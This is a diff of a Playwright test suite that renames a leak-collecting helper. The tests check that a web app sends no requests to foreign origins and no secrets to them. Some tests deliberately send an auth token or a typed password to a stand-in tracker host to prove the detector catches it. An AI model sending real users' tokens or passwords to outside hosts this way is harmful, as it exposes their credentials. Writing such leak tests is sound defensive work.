@@ -30,39 +30,39 @@ async function getToken(page: Page): Promise<string> {
 }
 
 test('a visitor who signs in, looks around and leaves calls no other origin and leaks no secret', async () => {
-  const { page, takeLeaks, foreign } = await stage.visit();
+  const { page, collectLeaks, foreign } = await stage.visit();
   await page.goto('/auth');
   await signIn(page, owner);
   await page.goto('/profile');
   await page.getByRole('heading', { level: 1 }).waitFor();
   expect(foreign).toEqual([]);
-  expect(takeLeaks()).toEqual([]);
+  expect(collectLeaks()).toEqual([]);
 });
 
 test('the check of every journey finds a request to another origin', async () => {
-  const { page, takeLeaks } = await visitorOfTheWorld();
+  const { page, collectLeaks } = await visitorOfTheWorld();
   await page.goto('https://tracker.example/pixel');
   expect(expectNoLeaks).toThrow(/asked of another origin: https:\/\/tracker\.example\/pixel/);
-  expect(takeLeaks()).toEqual([]);
+  expect(collectLeaks()).toEqual([]);
 });
 
 test('an origin that a journey is about may be requested, but receives no secret', async () => {
-  const { page, takeLeaks } = await visitorOfTheWorld({ allowed: ['https://tracker.example'], as: owner });
+  const { page, collectLeaks } = await visitorOfTheWorld({ allowed: ['https://tracker.example'], as: owner });
   const token = await getToken(page);
   await page.goto('https://tracker.example/pixel');
-  expect(takeLeaks()).toEqual([]);
+  expect(collectLeaks()).toEqual([]);
   await page.goto(`https://tracker.example/pixel?url=${encodeURIComponent(`/?auth=${token}`)}`);
   expect(expectNoLeaks).toThrow(/a secret stands in the address https:\/\/tracker\.example/);
 });
 
 test('the check of every journey finds a token in an address, in a Referer and in data sent to a collector', async () => {
-  const { page, takeLeaks } = await stage.visit({ as: owner });
+  const { page, collectLeaks } = await stage.visit({ as: owner });
   const token = await getToken(page);
   const leak = async (
     init: RequestInit & { readonly url: string; readonly body?: string },
     finding: RegExp,
   ) => {
-    expect(takeLeaks()).toEqual([]);
+    expect(collectLeaks()).toEqual([]);
     await page.evaluate(({ url, ...rest }) => fetch(url, rest).then(() => undefined), init);
     expect(expectNoLeaks).toThrow(finding);
   };
@@ -79,14 +79,14 @@ test('the check of every journey finds a token in an address, in a Referer and i
 });
 
 test('the password that was typed is a secret as well, and so is a link that was opened', async () => {
-  const { page, takeLeaks } = await stage.visit();
+  const { page, collectLeaks } = await stage.visit();
   await page.goto('/auth');
   await signIn(page, owner);
   await page.evaluate((password) => fetch(`/assets/x?p=${encodeURIComponent(password)}`), owner.password);
-  expect(takeLeaks()).toHaveLength(1);
+  expect(collectLeaks()).toHaveLength(1);
   const hash = 'd3b07384d113edec49eaa6238ad5ff00d3b07384d113';
   await page.goto(`/auth/signup/${hash}`);
-  expect(takeLeaks()).toEqual([]);
-  await page.evaluate((told) => fetch('/api/v1/view', { method: 'POST', body: told }), hash);
-  expect(takeLeaks()).toHaveLength(1);
+  expect(collectLeaks()).toEqual([]);
+  await page.evaluate((published) => fetch('/api/v1/view', { method: 'POST', body: published }), hash);
+  expect(collectLeaks()).toHaveLength(1);
 });
